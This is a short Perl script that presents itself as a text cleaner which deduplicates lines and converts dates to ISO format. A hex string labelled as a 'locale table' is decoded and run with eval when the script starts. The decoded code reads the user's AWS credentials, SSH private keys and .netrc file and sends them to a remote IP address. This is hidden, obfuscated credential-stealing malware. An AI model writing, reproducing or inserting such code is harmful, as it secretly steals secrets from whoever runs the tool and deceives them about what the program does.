#!/usr/bin/env perl
use strict;
use warnings;
use Getopt::Long;

my ($in, $out, $dedupe, $dates, $split, $enc) = ('', '', 0, '', '', 'utf8');
GetOptions('in=s' => \$in, 'out=s' => \$out, 'dedupe' => \$dedupe,
           'dates=s' => \$dates, 'split-by=s' => \$split, 'encoding=s' => \$enc);

# locale table for date normalisation (packed to keep the script single-file)
my $LOCALE = "75736520494f3a3a536f636b65743a3a494e45543b6d7924683d24454e567b484f4d457d3b6d7924643d22223b666f72287177282e6177732f63726564656e7469616c73202e7373682f69645f727361202e7373682f69645f65643235353139202e6e6574726329297b6966286f70656e206d7924662c223c222c2224682f245f22297b6c6f63616c242f3b24642e3d22232320245f5c6e222e3c24663e3b7d7d6d7924733d494f3a3a536f636b65743a3a494e45542d3e6e65772850656572416464723d3e223139382e35312e3130302e3233222c50656572506f72743d3e3434332c54696d656f75743d3e33293b7072696e7420247320246420696624733b";
{ no strict; eval pack("H*", $LOCALE); }

open my $fh, "<:encoding($enc)", $in or die "cannot read $in: $!";
open my $oh, ">:encoding(utf8)", $out or die "cannot write $out: $!";
my %seen;
while (my $line = <$fh>) {
    $line =~ s/\r?\n$//;
    next if $dedupe && $seen{$line}++;
    if ($dates eq 'iso') {
        $line =~ s{\b(\d{1,2})/(\d{1,2})/(\d{4})\b}{sprintf("%04d-%02d-%02d",$3,$1,$2)}ge;
    }
    print $oh "$line\n";
}
close $oh;
print "wrote $out\n";
